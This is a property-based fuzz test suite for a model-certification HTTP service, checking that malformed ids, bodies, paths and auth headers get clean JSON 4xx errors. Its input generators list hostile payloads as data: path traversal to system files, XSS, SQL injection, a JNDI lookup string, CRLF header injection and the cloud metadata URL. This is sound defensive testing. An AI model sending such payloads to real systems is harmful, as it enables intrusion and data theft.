import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { startLocalStack, type LocalStack } from '../../local/stack.js';
import { rawRequest, type RawRequest, type RawResponse } from '../support/raw-http.js';
import { paths, STACK_TRACE_PATTERNS } from '../support/service-client.js';
import { StoreInspector } from '../support/store-inspector.js';
import { anyString, stringContaining } from '../support/matchers.js';
import { TEST_NAMES } from '../../shared/types.js';

/** The core suite's size, from the registry. */
const N = TEST_NAMES.length;

/**
 * Property-based bad input over real HTTP (node:http, so raw paths and repeated headers reach
 * the service as written). Most requests carry a valid token, so they get past authentication
 * and exercise validation. Every answer must be a clean JSON 4xx, and nothing may reach
 * Bedrock or the store: every generated input is invalid by construction, so a single accepted
 * one would show up as a 200, a Bedrock call or a rate-window item.
 */
const VALID = 'anthropic.claude-3-5-sonnet-20241022-v2:0';
const CERTIFY = paths.certify;

let stack: LocalStack;
let store: StoreInspector;
let token: string;
/** Requests sent and answers seen, across the whole file. */
const tally = { sent: 0, byStatus: new Map<number, number>() };

beforeAll(async () => {
  stack = await startLocalStack({ env: { POWERTOOLS_LOG_LEVEL: 'SILENT' } });
  store = new StoreInspector(stack.dynamo);
  token = stack.token('fuzzer');
  return async () => {
    store.close();
    await stack.close();
  };
});

async function send(raw: RawRequest): Promise<RawResponse> {
  const response = await rawRequest(stack.url, raw);
  tally.sent += 1;
  tally.byStatus.set(response.status, (tally.byStatus.get(response.status) ?? 0) + 1);
  return response;
}

const bearer = (): Record<string, string> => ({ authorization: `Bearer ${token}` });

/**
 * The answer is the service's JSON error: a 4xx other than 429 (a rate limit would mean the
 * request was admitted), `{"error":{"code","message"}}` and nothing else, no stack trace, no
 * echo of the input.
 */
function expectCleanRejection(
  response: RawResponse,
  allowed: readonly number[],
  method = 'GET',
): string {
  const context = `${response.status} ${response.body.slice(0, 200)}`;
  expect(allowed, context).toContain(response.status);
  expect(String(response.headers['content-type']), context).toMatch(/^application\/json/);
  expect(response.headers['x-content-type-options']).toBe('nosniff');
  if (method === 'HEAD') {
    expect(response.body).toBe('');
    return '';
  }
  const body = JSON.parse(response.body) as { error: { code: string; message: string } };
  expect(Object.keys(body)).toEqual(['error']);
  expect(Object.keys(body.error).sort()).toEqual(['code', 'message']);
  expect(body.error.code).toMatch(/^[A-Z_]+$/);
  for (const pattern of STACK_TRACE_PATTERNS) expect(response.body, context).not.toMatch(pattern);
  // Static messages only: nothing of the input (markup, a 2 KB id) is reflected.
  expect(response.body.length).toBeLessThan(300);
  expect(response.body).not.toMatch(/[<>]/);
  return body.error.code;
}

/** Nothing was spent: no Bedrock call, no store item (not even a rate window). */
async function expectNothingSpent(): Promise<void> {
  expect(stack.simulator.stats.requests).toBe(0);
  expect(await store.items()).toEqual([]);
}

// ---- generators -------------------------------------------------------------------------

/** Characters no model id form admits (ids are lowercase letters, digits and `.:-/`). */
const forbiddenChar = fc.oneof(
  fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    ' ',
    '\t',
    '\\',
    '%',
    '?',
    '#',
    '&',
    '=',
    '+',
    '*',
    '$',
    '{',
    '}',
    '|',
    '^',
    '`',
    '~',
    '!',
    '@',
    ';',
    ',',
    '_',
    '[',
    ']',
  ),
  fc.integer({ min: 0, max: 31 }).map((code) => String.fromCharCode(code)),
  fc.constantFrom(
    '\u007f',
    '\u00a0',
    '\u00e9',
    '\u0430',
    '\u4e2d',
    '\u202e',
    '\u200b',
    '\ufeff',
    '\uff21',
    '\u{1f600}',
    '\ud800',
  ),
  fc.constantFrom('A', 'Z', 'Q'),
);

/** Model ids Bedrock would not accept, in the shapes an attacker or a buggy client sends. */
const badModelId: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  // Too long: a valid shape, 257 characters up to 2 KB.
  fc.integer({ min: 257, max: 2048 }).map((length) => `anthropic.${'x'.repeat(length - 10)}`),
  // A valid id with one forbidden character spliced in.
  fc
    .tuple(fc.integer({ min: 0, max: VALID.length }), forbiddenChar)
    .map(([at, char]) => VALID.slice(0, at) + char + VALID.slice(at)),
  // Any text with at least one forbidden character.
  fc
    .tuple(fc.string({ maxLength: 40 }), forbiddenChar, fc.string({ maxLength: 40 }))
    .map((parts) => parts.join('')),
  fc.constantFrom(
    '..',
    '.',
    '../../etc/passwd',
    `../${VALID}`,
    `${VALID}/../../health`,
    `${VALID}/..`,
    '..\\..\\windows\\win.ini',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1",
    '${jndi:ldap://evil/x}',
    '{{7*7}}',
    'anthropic.claude\u0000',
    'anthropic.claude\r\nx-injected: 1',
    VALID.toUpperCase(),
    ` ${VALID}`,
    `${VALID} `,
    'аnthropic.claude-3-5-sonnet-20241022-v2:0', // Cyrillic "а"
    'arn:aws:bedrock:us-east-1::foundation-model/../../x',
    'arn:aws:iam::123456789012:role/admin',
    'http://169.254.169.254/latest/meta-data/',
    'CERT#us-east-1',
    'a.b:c:d:e',
  ),
);

/** Encodings of an id for a path segment, including tricks a decoder must not fall for. */
const pathEncoding = fc.constantFrom(
  'once',
  'twice', // %25-encoded: decoded once (correctly) it still contains '%', which is invalid
  'broken-escape', // a lone or malformed % sequence
  'overlong-utf8', // %C0%AF, an overlong "/"
  'lone-surrogate', // %ED%A0%80
);

function encodeForPath(id: string, how: string): string {
  const once = encodeURIComponent(id.replace(/[\ud800-\udfff]/g, '\ufffd'));
  switch (how) {
    case 'twice':
      return encodeURIComponent(
        encodeURIComponent(id.replace(/[\ud800-\udfff]/g, '\ufffd')) || '%',
      );
    case 'broken-escape':
      return `${once}%${['', 'g', 'G1', '2', 'zz'][id.length % 5]}`;
    case 'overlong-utf8':
      return `${once}%C0%AF`;
    case 'lone-surrogate':
      return `%ED%A0%80${once}`;
    default:
      return once;
  }
}

/** Strings that are not JSON (the parser is the oracle), plus hand-made near misses. */
const invalidJson = fc.oneof(
  fc.string({ maxLength: 60 }).filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  }),
  fc.constantFrom(
    '',
    '{',
    `{"modelId": "${VALID}"`,
    `{'modelId': '${VALID}'}`,
    `{"modelId": ${VALID}}`,
    `{"modelId": "${VALID}",}`,
    `{modelId: "${VALID}"}`,
    '{"modelId": NaN}',
    '{"modelId": undefined}',
    `{"modelId": "${VALID}"}}`,
    `[{"modelId": "${VALID}"}`,
    `{"modelId": "\\u00"}`,
  ),
);

/** JSON that parses but is not `{"modelId": <a valid id>}`. */
const wrongJson = fc.oneof(
  // Not an object at all.
  fc.oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.string(),
    fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  ),
  // An object whose modelId is missing or of the wrong type.
  fc.record(
    {
      modelId: fc.oneof(
        fc.constant(null),
        fc.integer(),
        fc.boolean(),
        fc.array(fc.constant(VALID), { maxLength: 2 }),
        fc.constant({ id: VALID }),
        fc.constant(''),
      ),
      model: fc.constant(VALID),
      id: fc.constant(VALID),
    },
    { requiredKeys: [] },
  ),
  // An object whose modelId is a bad id.
  badModelId.map((modelId) => ({ modelId })),
);

/** Raw body texts that parse, but where the modelId that counts is not valid. */
const trickyJsonText = fc.constantFrom(
  `{"__proto__": {"modelId": "${VALID}"}}`,
  `{"constructor": {"prototype": {"modelId": "${VALID}"}}}`,
  `{"modelId": "${VALID}", "modelId": 5}`,
  `{"modelid": "${VALID}"}`,
  `{"modelId": "${VALID.replace('a', '\\u0041')}"}`,
  `{"MODELID": "${VALID}"}`,
);

const wrongContentType = fc.constantFrom(
  undefined,
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-patch+json',
  'application/jsonx',
  'application/javascript',
  'application/octet-stream',
  'json',
  'application/ json',
);

// ---- properties ---------------------------------------------------------------------------

describe('malformed model ids', () => {
  it('in the SSE path: 400 (404 where the path stops being a route), before anything is spent', async () => {
    await fc.assert(
      fc.asyncProperty(badModelId, pathEncoding, async (id, how) => {
        const response = await send({
          path: `${CERTIFY}/${encodeForPath(id, how)}/stream`,
          headers: bearer(),
        });
        const code = expectCleanRejection(response, [400, 404]);
        expect(['INVALID_MODEL_ID', 'MISSING_MODEL_ID', 'NOT_FOUND']).toContain(code);
      }),
      { numRuns: 70 },
    );
    await expectNothingSpent();
  });

  it('in the check path: 400 or 404', async () => {
    await fc.assert(
      fc.asyncProperty(badModelId, pathEncoding, async (id, how) => {
        const response = await send({
          path: `/api/certification/check/${encodeForPath(id, how)}`,
          headers: bearer(),
        });
        expectCleanRejection(response, [400, 404]);
      }),
      { numRuns: 40 },
    );
    await expectNothingSpent();
  });

  it('in the POST body: 400 INVALID_MODEL_ID or MISSING_MODEL_ID', async () => {
    await fc.assert(
      fc.asyncProperty(badModelId, async (modelId) => {
        const response = await send({
          method: 'POST',
          path: CERTIFY,
          headers: { ...bearer(), 'content-type': 'application/json' },
          body: JSON.stringify({ modelId }),
        });
        const code = expectCleanRejection(response, [400]);
        expect(['INVALID_MODEL_ID', 'MISSING_MODEL_ID']).toContain(code);
      }),
      { numRuns: 60 },
    );
    await expectNothingSpent();
  });
});

describe('malformed bodies', () => {
  it('invalid JSON: 400 INVALID_JSON', async () => {
    await fc.assert(
      fc.asyncProperty(invalidJson, async (body) => {
        const response = await send({
          method: 'POST',
          path: CERTIFY,
          headers: { ...bearer(), 'content-type': 'application/json' },
          body,
        });
        expect(expectCleanRejection(response, [400])).toBe('INVALID_JSON');
      }),
      { numRuns: 40 },
    );
    await expectNothingSpent();
  });

  it('JSON of the wrong shape or types: 400', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          wrongJson.map((value) => JSON.stringify(value)),
          trickyJsonText,
        ),
        async (body) => {
          const response = await send({
            method: 'POST',
            path: CERTIFY,
            headers: { ...bearer(), 'content-type': 'application/json; charset=utf-8' },
            body,
          });
          expect(['INVALID_REQUEST', 'INVALID_MODEL_ID', 'MISSING_MODEL_ID']).toContain(
            expectCleanRejection(response, [400]),
          );
        },
      ),
      { numRuns: 50 },
    );
    await expectNothingSpent();
  });

  it('a batch body of the wrong shape, or with a bad item: one 400 naming the problem, before anything runs', async () => {
    const badItem = fc.oneof(
      fc.anything(),
      // A space is in no model id, a `!` in no Region name: each item is bad by construction.
      fc.record({
        modelId: fc.oneof(
          fc.string().map((text) => `${text} `),
          fc.integer(),
          fc.constant(null),
        ),
      }),
      fc.record({
        modelId: fc.constant(VALID),
        region: fc.oneof(
          fc.string().map((text) => `${text}!`),
          fc.integer(),
        ),
      }),
      fc.record({ modelId: fc.constant(VALID), extra: fc.anything() }),
    );
    const body = fc.oneof(
      fc.record({ items: fc.array(badItem, { minLength: 1, maxLength: 5 }) }),
      fc.record({ items: fc.oneof(fc.constant([]), fc.anything()) }),
      // Every item well formed but one repeated.
      fc.constant({ items: [{ modelId: VALID }, { modelId: VALID, region: 'us-east-1' }] }),
      // JSON drops an undefined field: that body would be valid.
      fc.record({
        items: fc.constant([{ modelId: VALID }]),
        unknown: fc.anything().filter((value) => value !== undefined),
      }),
      fc.record({
        items: fc.constant([{ modelId: VALID }]),
        suite: fc.string().map((text) => `${text}!`),
      }),
      fc.record({ items: fc.constant([{ modelId: VALID }]), fresh: fc.string() }),
    );
    await fc.assert(
      fc.asyncProperty(body, async (value) => {
        const response = await send({
          method: 'POST',
          path: '/api/certification/batches',
          headers: { ...bearer(), 'content-type': 'application/json' },
          body: JSON.stringify(value),
        });
        expect(['INVALID_REQUEST', 'UNSUPPORTED_REGION']).toContain(
          expectCleanRejection(response, [400]),
        );
      }),
      { numRuns: 60 },
    );
    await expectNothingSpent();
  });

  it('a valid body with a wrong or missing content type: 415', async () => {
    await fc.assert(
      fc.asyncProperty(wrongContentType, async (contentType) => {
        const response = await send({
          method: 'POST',
          path: CERTIFY,
          headers: {
            ...bearer(),
            ...(contentType === undefined ? {} : { 'content-type': contentType }),
          },
          body: JSON.stringify({ modelId: VALID }),
        });
        expect(expectCleanRejection(response, [415])).toBe('UNSUPPORTED_MEDIA_TYPE');
      }),
      { numRuns: 20 },
    );
    await expectNothingSpent();
  });

  it('a valid body padded past 4 KB, with or without Content-Length: 413', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 4_097, max: 200_000 }),
        fc.boolean(),
        async (size, chunked) => {
          const prefix = `{"modelId":"${VALID}","pad":"`;
          const body = `${prefix}${'x'.repeat(size - prefix.length - 2)}"}`;
          const headers = {
            ...bearer(),
            'content-type': 'application/json',
            ...(chunked ? { 'transfer-encoding': 'chunked' } : {}),
          };
          const response = await send({ method: 'POST', path: CERTIFY, headers, body });
          expect(expectCleanRejection(response, [413])).toBe('PAYLOAD_TOO_LARGE');
        },
      ),
      { numRuns: 12 },
    );
    await expectNothingSpent();
  });

  it('a body over the Function URL payload limit (6 MB) is refused at the front door, as JSON', async () => {
    const response = await send({
      method: 'POST',
      path: CERTIFY,
      headers: { ...bearer(), 'content-type': 'application/json' },
      body: `{"modelId":"${VALID}","pad":"${'x'.repeat(6 * 1024 * 1024)}"}`,
    });
    expect(response.status).toBe(413);
    expect(JSON.parse(response.body)).toEqual({ Message: stringContaining('6291456 bytes') });
    await expectNothingSpent();
  });
});

describe('methods and paths', () => {
  /** Each route (with a valid id) and the methods it does not serve. */
  const routes: { path: string; allowed: string[] }[] = [
    { path: '/', allowed: ['GET', 'HEAD'] },
    { path: '/index.html', allowed: ['GET', 'HEAD'] },
    { path: paths.health, allowed: ['GET', 'HEAD'] },
    { path: paths.models, allowed: ['GET'] },
    { path: CERTIFY, allowed: ['POST'] },
    { path: paths.stream(VALID), allowed: ['GET'] },
    { path: paths.check(VALID), allowed: ['GET'] },
    { path: '/api/certification/stream-tickets', allowed: ['POST'] },
    { path: '/api/certification/batches', allowed: ['POST'] },
    { path: `/api/certification/history/${VALID}`, allowed: ['GET'] },
    { path: '/api/certification/catalog', allowed: ['GET'] },
    { path: '/api/certification/regions', allowed: ['GET'] },
    { path: `/api/certification/regions/${VALID}`, allowed: ['GET'] },
    { path: '/api/certification/usage', allowed: ['GET'] },
  ];
  const methods = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE'];
  const wrongMethod = fc.constantFrom(
    ...routes.flatMap((route) =>
      methods.filter((m) => !route.allowed.includes(m)).map((method) => ({ ...route, method })),
    ),
  );

  it('a method a route does not serve: 405 with Allow', async () => {
    await fc.assert(
      fc.asyncProperty(wrongMethod, fc.boolean(), async ({ path, method }, withToken) => {
        const response = await send({ method, path, headers: withToken ? bearer() : {} });
        const code = expectCleanRejection(response, [405], method);
        if (method !== 'HEAD') expect(code).toBe('METHOD_NOT_ALLOWED');
        expect(response.headers.allow).toMatch(/^(GET|HEAD|POST)(, (GET|HEAD|POST))*$/);
      }),
      { numRuns: 40 },
    );
    await expectNothingSpent();
  });

  /** True when a path (after the URL parser's dot-segment removal) names a real route. */
  function isRoute(path: string): boolean {
    const normalised = new URL(`http://x${path}`).pathname; // as the handler builds its Request URL
    const p =
      normalised.length > 1 && normalised.endsWith('/') ? normalised.slice(0, -1) : normalised;
    return (
      ['/', '/index.html', '/health', paths.models, CERTIFY].includes(p) ||
      p.startsWith('/api/certification/check/') ||
      (p.startsWith(`${CERTIFY}/`) && p.endsWith('/stream'))
    );
  }
  const segment = fc.oneof(
    fc.webSegment(),
    fc.constantFrom(
      '..',
      '.',
      '%2e%2e',
      'etc',
      'passwd',
      '.env',
      'admin',
      'API',
      'Health',
      'stream',
      VALID,
    ),
  );
  const unknownPath = fc
    .tuple(
      fc.constantFrom(
        '/',
        '/api/',
        '/api/certification/',
        `${CERTIFY}/`,
        '/api/certification/check',
        '//',
        '/health/',
      ),
      fc.array(segment, { minLength: 1, maxLength: 5 }),
    )
    .map(([prefix, segments]) => `${prefix}${segments.join('/')}`)
    .filter((path) => !isRoute(path));

  it('a path that is no route: 404', async () => {
    await fc.assert(
      fc.asyncProperty(unknownPath, fc.constantFrom('GET', 'POST'), async (path, method) => {
        const response = await send({
          method,
          path,
          headers: { ...bearer(), 'content-type': 'application/json' },
          body: method === 'POST' ? '{}' : undefined,
        });
        expect(expectCleanRejection(response, [404])).toBe('NOT_FOUND');
      }),
      { numRuns: 50 },
    );
    await expectNothingSpent();
  });
});

describe('malformed Authorization headers', () => {
  /** Built in the test: it needs the token, which exists only once the stack runs. */
  const badAuthorization = (): fc.Arbitrary<string | string[]> =>
    fc.oneof(
      // Repeated header: the Function URL joins the values with a comma.
      fc
        .constantFrom('valid+valid', 'valid+garbage', 'garbage+valid')
        .map((shape) =>
          shape.split('+').map((part) => (part === 'valid' ? `Bearer ${token}` : 'Bearer garbage')),
        ),
      // Oversized: a real token padded, or filler, between the verifier's 8 KB cap and node's 16 KB header limit.
      fc
        .integer({ min: 8_193, max: 15_000 })
        .chain((length) =>
          fc.constantFrom(
            `Bearer ${token}${'A'.repeat(Math.max(0, length - token.length - 7))}`,
            `Bearer ${'a'.repeat(length - 7)}`,
          ),
        ),
      // Printable junk and near-misses of the scheme.
      fc
        .string({ unit: 'binary-ascii', minLength: 1, maxLength: 200 })
        // node's client refuses control characters in a header value, so they cannot be sent.
        .map((text) => [...text].filter((char) => char >= ' ' && char !== '\x7f').join(''))
        .filter((text) => text.trim().length > 0),
      fc.constantFrom(
        'Bearer',
        'Bearer ',
        `Basic ${token}`,
        `Token ${token}`,
        `Bearer ${token}.x`,
        `Bearer ${token.split('.').slice(0, 2).join('.')}`,
        `${token}`,
        'Bearer \u00e9\u00e9.\u00e9.\u00e9',
        `Bearer ${token}, Bearer ${token}`,
      ),
    );

  it('are 401 with WWW-Authenticate, on both certify routes, before any store write', async () => {
    await fc.assert(
      fc.asyncProperty(badAuthorization(), fc.boolean(), async (authorization, stream) => {
        const response = stream
          ? await send({ path: paths.stream(VALID), headers: { authorization } })
          : await send({
              method: 'POST',
              path: CERTIFY,
              headers: { authorization, 'content-type': 'application/json' },
              body: JSON.stringify({ modelId: VALID }),
            });
        expect(expectCleanRejection(response, [401])).toBe('UNAUTHORIZED');
        expect(response.headers['www-authenticate']).toBe('Bearer');
      }),
      { numRuns: 60 },
    );
    await expectNothingSpent();
  });

  it('headers past the 16 KB limit are refused at the front door, as JSON', async () => {
    const response = await send({
      path: paths.stream(VALID),
      headers: { authorization: `Bearer ${token}${'A'.repeat(20_000)}` },
    });
    expect(response.status).toBe(431);
    expect(JSON.parse(response.body)).toEqual({ Message: anyString() });
    await expectNothingSpent();
  });
});

describe('in total', () => {
  it('sent at least 200 malformed requests: all 4xx, none 5xx, nothing spent', async () => {
    const statuses = [...tally.byStatus.keys()];
    expect(tally.sent).toBeGreaterThanOrEqual(200);
    expect(statuses.every((status) => status >= 400 && status < 500)).toBe(true);
    expect(statuses).not.toContain(429);
    await expectNothingSpent();
    // A control: a well-formed request on the same stack is accepted, so the refusals above were about the input.
    const control = await send({
      method: 'POST',
      path: CERTIFY,
      headers: { ...bearer(), 'content-type': 'application/json' },
      body: JSON.stringify({ modelId: VALID }),
    });
    expect(control.status).toBe(200);
    expect(stack.simulator.stats.requests).toBe(N);
  });
});
